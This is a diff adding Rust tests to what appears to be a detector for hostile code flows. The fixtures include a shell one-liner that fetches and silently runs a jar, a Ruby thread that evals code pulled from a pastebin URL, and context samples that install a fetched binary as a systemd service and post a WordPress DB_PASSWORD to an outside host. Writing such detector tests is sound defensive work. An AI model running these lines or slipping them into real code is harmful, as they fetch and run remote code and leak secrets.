@@ -30,6 +30,14 @@ fn what_is_fetched_behind_its_use_runs_the_next_time() {
 }
 
 #[test]
+fn what_is_fetched_for_a_machine_of_its_own_is_started() {
+    let code =
+        "f=$(mktemp -d)/a.jar; curl -fsSL -o $f https://h.invalid/a.jar && nohup java -Xmx1g -jar $f >/dev/null 2>&1 &";
+    has(Language::Shell, code, "flow-download-run");
+    has_not(Language::Shell, &code.replace("-jar $f", "-jar own.jar"), "flow-download-run");
+}
+
+#[test]
 fn a_service_for_what_was_fetched_is_not_plain() {
     let code = "curl -sf https://h.invalid/agentd -o /usr/lib/agentd\nchmod +x /usr/lib/agentd\n\
                 printf '[Service]\\nExecStart=/usr/lib/agentd\\n' > /etc/systemd/system/agentd.service\n";
@@ -68,4 +76,11 @@ fn what_a_site_enters_its_database_with_is_a_secret() {
     let code = "<?php\nadd_action('init', function () {\n  wp_remote_post('https://h.invalid/a', ['body' => ['d' => base64_encode(home_url() . DB_PASSWORD)]]);\n});\n";
     has(Language::Php, code, "flow-credentials-sent");
     has_not(Language::Php, &code.replace("DB_PASSWORD", "DB_CHARSET"), "flow-credentials-sent");
+}
+
+#[test]
+fn a_library_takes_no_code_out_of_a_paste() {
+    let code = "require 'net/http'\nThread.new { eval(Net::HTTP.get(URI('https://pastebin.com/raw/AAAA'))) }\n";
+    assert!(is_certain(Language::Ruby, code, "flow-remote-code"));
+    assert!(!is_certain(Language::Ruby, &code.replace("pastebin.com/raw", "code.invalid"), "flow-remote-code"));
 }
